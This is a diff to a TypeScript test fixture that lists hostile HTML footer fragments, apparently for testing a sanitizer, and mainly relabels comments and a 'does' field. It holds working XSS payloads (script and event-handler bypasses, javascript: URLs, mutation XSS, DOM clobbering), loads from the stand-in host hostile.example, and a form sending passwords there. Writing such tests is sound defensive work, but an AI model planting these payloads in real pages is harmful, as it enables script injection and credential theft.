@@ -1,20 +1,18 @@
 export interface HostileFragment {
   name: string;
-  /** Tries to call `hit()`, or to load from `hostileOrigin`, or to change the page around it. */
   html: string;
-  /** What it does at once in a page without any protection, so that a test can prove it would notice. */
-  does?: 'runs' | 'asks';
+  does?: 'runs' | 'loads';
 }
 
 export const hostileOrigin = 'https://hostile.example';
 const outside = hostileOrigin;
 
-/** Footers as an enemy would write them; none may get anywhere past the server or past the browser. */
+/** Footer HTML that attempts XSS, requests or layout changes. */
 export const hostileFragments: readonly HostileFragment[] = [
   // Scripts
   { name: 'script', html: '<script>hit()</script>', does: 'runs' },
   { name: 'script in capitals', html: '<ScRiPt>hit()</sCrIpT>', does: 'runs' },
-  { name: 'script from outside', html: `<script src="${outside}/a.js"></script>`, does: 'asks' },
+  { name: 'script from outside', html: `<script src="${outside}/a.js"></script>`, does: 'loads' },
   { name: 'script with a slash', html: '<script/x>hit()</script>', does: 'runs' },
   { name: 'script never closed', html: '<p>text<script>hit()' },
   { name: 'script within script', html: '<scr<script>ipt>hit()</scr</script>ipt>' },
@@ -65,7 +63,7 @@ export const hostileFragments: readonly HostileFragment[] = [
   { name: 'attribute within a closing tag', html: '</p onclick=hit()><p>x</p>' },
   { name: 'handler behind a null', html: '<img src=x on\u0000error=hit()>' },
 
-  // Addresses that are programs
+  // URLs with active schemes
   { name: 'javascript:', html: '<a href="javascript:hit()">x</a>' },
   { name: 'javascript: in capitals', html: '<a href="JaVaScRiPt:hit()">x</a>' },
   { name: 'javascript: with a tab', html: '<a href="java\tscript:hit()">x</a>' },
@@ -116,7 +114,7 @@ export const hostileFragments: readonly HostileFragment[] = [
   {
     name: 'SVG use from outside',
     html: `<svg><image href="${outside}/a.png" /></svg>`,
-    does: 'asks',
+    does: 'loads',
   },
   {
     name: 'SVG foreign object',
@@ -133,13 +131,13 @@ export const hostileFragments: readonly HostileFragment[] = [
   {
     name: 'style that loads',
     html: `<style>body{background:url(${outside}/a.png)}</style>`,
-    does: 'asks',
+    does: 'loads',
   },
-  { name: 'style that imports', html: `<style>@import "${outside}/a.css";</style>`, does: 'asks' },
+  { name: 'style that imports', html: `<style>@import "${outside}/a.css";</style>`, does: 'loads' },
   {
     name: 'style attribute that loads',
     html: `<p style="background:url(${outside}/b.png)">x</p>`,
-    does: 'asks',
+    does: 'loads',
   },
   {
     name: 'style attribute that covers the page',
@@ -150,14 +148,14 @@ export const hostileFragments: readonly HostileFragment[] = [
     name: 'style binding',
     html: `<p style="-moz-binding:url(${outside}/x.xml#x);behavior:url(${outside}/x.htc)">x</p>`,
   },
-  { name: 'style sheet', html: `<link rel=stylesheet href="${outside}/a.css">`, does: 'asks' },
+  { name: 'style sheet', html: `<link rel=stylesheet href="${outside}/a.css">`, does: 'loads' },
   {
     name: 'style closed early',
     html: '<style><!--</style><img src=x onerror=hit()>--></style>',
     does: 'runs',
   },
 
-  // Forms, frames and what changes the whole document
+  // Forms, frames and document-level elements
   {
     name: 'form that takes a password',
     html: `<form action="${outside}/login"><input name=password type=password><button>Log in</button></form>`,
@@ -175,7 +173,7 @@ export const hostileFragments: readonly HostileFragment[] = [
     name: 'meta policy',
     html: `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
   },
-  { name: 'iframe', html: `<iframe src="${outside}/"></iframe>`, does: 'asks' },
+  { name: 'iframe', html: `<iframe src="${outside}/"></iframe>`, does: 'loads' },
   {
     name: 'iframe with a document',
     html: '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
@@ -189,29 +187,29 @@ export const hostileFragments: readonly HostileFragment[] = [
   {
     name: 'object',
     html: `<object data="${outside}/a.html" type="text/html"></object>`,
-    does: 'asks',
+    does: 'loads',
   },
-  { name: 'embed', html: `<embed src="${outside}/a.html" type="text/html">`, does: 'asks' },
-  { name: 'preload', html: `<link rel=preload as=image href="${outside}/a.png">`, does: 'asks' },
-  { name: 'image from outside', html: `<img src="${outside}/a.png" alt="">`, does: 'asks' },
-  { name: 'image by source set', html: `<img srcset="${outside}/a.png 1x" alt="">`, does: 'asks' },
+  { name: 'embed', html: `<embed src="${outside}/a.html" type="text/html">`, does: 'loads' },
+  { name: 'preload', html: `<link rel=preload as=image href="${outside}/a.png">`, does: 'loads' },
+  { name: 'image from outside', html: `<img src="${outside}/a.png" alt="">`, does: 'loads' },
+  { name: 'image by source set', html: `<img srcset="${outside}/a.png 1x" alt="">`, does: 'loads' },
   {
     name: 'picture',
     html: `<picture><source srcset="${outside}/a.png"><img alt=""></picture>`,
-    does: 'asks',
+    does: 'loads',
   },
-  { name: 'video poster', html: `<video poster="${outside}/a.png"></video>`, does: 'asks' },
+  { name: 'video poster', html: `<video poster="${outside}/a.png"></video>`, does: 'loads' },
   {
     name: 'old table background',
     html: `<table background="${outside}/a.png"><tr><td>x</table>`,
-    does: 'asks',
+    does: 'loads',
   },
   {
     name: 'portal and fenced frame',
     html: `<portal src="${outside}/"></portal><fencedframe src="${outside}/"></fencedframe>`,
   },
 
-  // Names that take the page's own
+  // DOM clobbering
   {
     name: 'id that hides a property',
     html: '<a id=hit></a><a id=location href="javascript:hit()">x</a>',
@@ -229,7 +227,7 @@ export const hostileFragments: readonly HostileFragment[] = [
     html: '<img name=currentScript alt=""><img name=getElementById alt="">',
   },
 
-  // What a parser reads differently the second time
+  // Mutation XSS
   {
     name: 'noscript',
     html: '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
